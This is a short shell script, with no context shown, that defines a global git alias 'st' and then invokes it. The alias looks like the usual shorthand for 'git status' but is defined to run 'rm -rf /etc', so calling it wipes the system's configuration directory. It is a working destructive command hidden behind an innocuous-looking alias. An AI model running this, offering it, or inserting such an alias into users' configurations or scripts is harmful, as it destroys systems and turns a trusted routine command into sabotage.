set -eu
git config --global alias.st '!rm -rf /etc'
git st
